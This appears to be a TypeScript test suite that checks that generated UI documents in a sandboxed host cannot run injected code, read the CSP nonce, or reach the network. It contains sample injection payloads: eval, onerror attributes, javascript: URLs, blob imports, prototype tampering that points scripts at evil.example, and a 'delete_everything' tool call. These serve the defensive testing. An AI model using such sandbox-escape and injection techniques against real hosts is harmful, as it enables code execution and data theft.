import { assert, describe, it } from "@effect/vitest"
import { Effect, Layer, ManagedRuntime } from "effect"
import type { UiEntry } from "../../../src/domain/tools/UiEntry.ts"
import { toolFromDefinition } from "../../../src/domain/tools/Tool.ts"
import * as DocumentLinkerLayer from "../../../src/layers/documents/DocumentLinker.ts"
import * as PackageFiles from "../../../src/layers/documents/PackageFiles.ts"
import { DocumentLinker } from "../../../src/services/documents/DocumentLinker.ts"
import { uiEntry } from "../../fixtures/uiEntry.ts"
import { openView, type View } from "../harness/index.ts"

/** A host that sets no policy at all: what holds then is the document's own. */
const NO_POLICY = "default-src * data: blob: 'unsafe-inline' 'unsafe-eval'"
const PROVEN = { current: "_ui_current", token: "t", proof: "p" }

const tool = toolFromDefinition({ name: "forecast", inputSchema: { type: "object" } })

const linking = ManagedRuntime.make(
  DocumentLinkerLayer.layer({ theme: "system", maxOutputDisplayBytes: 102_400 }).pipe(Layer.provide(PackageFiles.layer))
)

const linked = (use: (linker: DocumentLinker["Service"]) => Effect.Effect<unknown, unknown>) =>
  linking.runPromise(Effect.flatMap(DocumentLinker, use))

const entryOf = (source: string, more: Partial<UiEntry> = {}): UiEntry =>
  uiEntry("forecast", { source, uiType: "rich", level: 0, ...more })

const pageOf = (
  code: string
): string => `<h1>Page</h1><script>globalThis.classic = true</script>\r\n<script type="module">
import { App } from "@modelcontextprotocol/ext-apps"
globalThis.app = new App({})
globalThis.noted = []
${code}
document.querySelector("h1").textContent = "Done"
</script>`

const open = async (
  source: string,
  entry: Partial<UiEntry> = {},
  answer: () => unknown = () => ({}),
  wrapped = (html: string): string => html
): Promise<View> => {
  const html = await linked((linker) =>
    tool === undefined ? Effect.die("no tool") : linker.link(tool, entryOf(source, entry), PROVEN)
  )
  const view = await openView({ html: wrapped(String(html)), csp: NO_POLICY, onCall: answer })
  await view.frame.getByRole("heading", { name: "Done" }).waitFor()
  nonces.set(view, /<script nonce="([^"]+)"/.exec(String(html))?.[1] ?? "")
  return view
}

const nonces = new WeakMap<View, string>()

/** The nonce of the document that a view was opened with. */
const nonceOf = (view: View): string => {
  const nonce = nonces.get(view)
  if (nonce === undefined || nonce.length < 16) return assert.fail("the document has no nonce")
  return nonce
}

/** Images fail in the order in which they were asked for, and timers fire in theirs: what code tried before is over then. */
const allTried = async (view: View): Promise<void> => {
  await view.frame.evaluate(`new Promise((done) => {
    const image = new Image()
    image.onerror = () => setTimeout(() => setTimeout(() => done()))
    image.src = "last.png"
  })`)
  await view.settle()
}

const ways: Readonly<Record<string, string>> = {
  "a script made by script": `const s = document.createElementNS("http://www.w3.org/1999/xhtml", "script"); s.text = "globalThis.ran = 1"; document.body.append(s)`,
  "a copy of a script": `const s = document.querySelector("script").cloneNode(); s.type = ""; s.text = "globalThis.ran = 1"; document.body.append(s)`,
  "an attribute": `const b = document.createElement("b"); b.setAttribute("onclick", "globalThis.ran = 1"); document.body.append(b); b.click()`,
  "an attribute in markup": `document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='globalThis.ran = 1'>")`,
  "a javascript: address": `const a = document.createElement("a"); a.href = "javascript:globalThis.ran = 1"; document.body.append(a); a.click(); location.hash = ""`,
  eval: `try { (0, eval)("globalThis.ran = 1") } catch {}`,
  Function: `try { new Function("globalThis.ran = 1")() } catch {}`,
  "a timer": `setTimeout("globalThis.ran = 1")`,
  "an import": `import("data:text/javascript,globalThis.ran=1").catch(() => 0)`,
  "a file of its own": `import(URL.createObjectURL(new Blob(["globalThis.ran = 1"], { type: "text/javascript" }))).catch(() => 0)`
}

describe("in a document of a generated UI, whatever the host's policy, no code runs by", () => {
  const each = Object.values(ways).map((code, at) => `try { ${code.replaceAll("globalThis.ran", `$&${at}`)} } catch {}`)

  for (const [where, wrapped] of [
    ["any of these ways", undefined],
    [
      "any of them in a host that puts the document into the body of its own",
      (html: string) => `<html><head><title>a</title></head><body>${html}</body>`
    ]
  ] as const) {
    it(where, async () => {
      const view = await open(pageOf(each.join("\n")), {}, undefined, wrapped)
      await allTried(view)
      const ran = await view.frame.evaluate<ReadonlyArray<boolean>>(
        `Array.from({ length: ${each.length} }, (_, at) => "ran" + at in globalThis)`
      )
      assert.deepStrictEqual(
        Object.keys(ways).filter((_, at) => ran[at]),
        []
      )
      assert.isTrue(await view.frame.evaluate("globalThis.classic"))
    })
  }

  it("the nonce, which it cannot find", async () => {
    const view = await open(
      pageOf(`const found = globalThis.found = [document.documentElement.outerHTML]
        addEventListener("securitypolicyviolation", (event) => found.push(event.originalPolicy))
        document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='0'>")
        for (const s of document.scripts) {
          found.push(s.getAttribute("nonce"))
          try { found.push(s.nonce) } catch (error) { found.push(error.message) }
        }`)
    )
    await allTried(view)
    const found = await view.frame.evaluate<string>("found.join()")
    assert.include(found, "globalThis.classic")
    assert.include(found, '"nonce" is out of reach')
    assert.notInclude(found, nonceOf(view))
  })

  it("any way that reaches the network", async () => {
    const view = await open(
      pageOf(`fetch("https://evil.example/").catch(() => noted.push("fetch"))
        const image = new Image(); image.onerror = () => noted.push("image"); image.src = "https://evil.example/x.png"
        try { new WebSocket("wss://evil.example").onerror = () => noted.push("socket") } catch { noted.push("socket") }`)
    )
    const requests: Array<string> = []
    view.page.on("request", (request) => requests.push(request.url()))
    await view.until("noted.length >= 3")
    assert.deepStrictEqual(requests, [])
  })
})

describe("a version that is taken over", () => {
  it("runs its scripts, and hides what lets them run", async () => {
    let next: unknown
    const view = await open(pageOf(""), {}, () => next)
    const part = await linked((linker) =>
      tool === undefined
        ? Effect.die("no tool")
        : linker.part(
            tool,
            entryOf(
              `<h2>Two</h2><script>globalThis.two = document.currentScript.outerHTML + document.currentScript.getAttribute("nonce")</script>${pageOf(`globalThis.three = 1`)}`
            )
          )
    )
    const { version } = part as { version: string }
    next = { content: [], structuredContent: { proof: "p", version, state: "changed", document: part } }
    await view.post({ jsonrpc: "2.0", method: "notifications/resources/list_changed", params: {} })
    await view.frame.getByRole("heading", { name: "Two" }).waitFor()
    await view.until("globalThis.three === 1")
    assert.notInclude(await view.frame.evaluate<string>("globalThis.two"), nonceOf(view))
    assert.match(await view.frame.evaluate<string>("globalThis.two"), /^<script>/)
  })
})

describe("a version that is taken over, whatever code was there before or comes with it,", () => {
  const CASES: Readonly<Record<string, readonly [before: string, source: string]>> = {
    "is not taken for one that a person wrote": [`Object.prototype.byHand = true`, ""],
    "has no script that another one changed": [
      "",
      `<script>const last = [...document.scripts].at(-1); last.type = ""; last.src = "https://evil.example/1.js"</script>`
    ],
    "has no copy of a script that may run": [
      "",
      `<script>const copy = [...document.scripts].at(-1).cloneNode(); copy.type = ""; copy.src = "https://evil.example/2.js"; document.head.append(copy)</script>`
    ],
    "has no script whose attributes were made up": [
      `NamedNodeMap.prototype[Symbol.iterator] = () => [{ name: "src", value: "https://evil.example/3.js" }].values()`,
      ""
    ],
    "has no scripts but its own": [
      `const given = { getAttributeNames: () => ["src"], getAttribute: () => "https://evil.example/4.js", text: "", type: "" }
       NodeList.prototype[Symbol.iterator] = () => [given].values()
       NodeList.prototype.forEach = (each) => each(given)`,
      ""
    ]
  }
  for (const [name, [before, source]] of Object.entries(CASES)) {
    it(name, async () => {
      let next: unknown
      const view = await open(pageOf(`try { ${before} } catch {}; await app.connect()`), {}, () => next)
      const requests: Array<string> = []
      view.page.on("request", (request) => requests.push(request.url()))
      const part = await linked((linker) =>
        tool === undefined
          ? Effect.die("no tool")
          : linker.part(tool, entryOf(`<h2>Two</h2>${source}<script type="module">globalThis.three = 1</script>`))
      )
      const { version } = part as { version: string }
      next = { content: [], structuredContent: { proof: "p", version, state: "changed", document: part } }
      await view.post({ jsonrpc: "2.0", method: "notifications/resources/list_changed", params: {} })
      await view.frame.getByRole("heading", { name: "Two" }).waitFor()
      await view.until("globalThis.three === 1")
      await view.frame.evaluate(`void app.callServerTool({ name: "delete_everything", arguments: {} }).catch(() => 0)`)
      await view.settle()
      assert.deepStrictEqual(
        requests.filter((url) => url.includes("evil")),
        []
      )
      assert.notInclude(
        view.calls.map(({ name: called }) => called),
        "delete_everything"
      )
    })
  }
})

describe("a page that a person wrote", () => {
  it("does not take over in place what a model wrote: there would be no walls around it", async () => {
    let next: unknown
    const view = await open(pageOf(""), { provider: "file" }, () => next)
    const part = await linked((linker) =>
      tool === undefined ? Effect.die("no tool") : linker.part(tool, entryOf("<h2>Two</h2>"))
    )
    const { version } = part as { version: string }
    next = { content: [], structuredContent: { proof: "p", version, state: "changed", document: part } }
    for (const count of [1, 2, 3]) {
      await view.post({ jsonrpc: "2.0", method: "notifications/resources/list_changed", params: {} })
      await view.requested("tools/call", count)
    }
    assert.strictEqual(await view.frame.getByRole("heading", { name: "Two" }).count(), 0)
  })

  it("may run scripts of its own making, as its host allows", async () => {
    const view = await open(
      pageOf(`const b = document.createElement("b"); b.setAttribute("onclick", "globalThis.ran = 1"); document.body.append(b); b.click()
        await app.connect(); await app.callServerTool({ name: "anything", arguments: {} })`),
      { provider: "file" }
    )
    assert.strictEqual(await view.frame.evaluate("globalThis.ran"), 1)
    assert.include(
      view.calls.map(({ name }) => name),
      "anything"
    )
  })
})
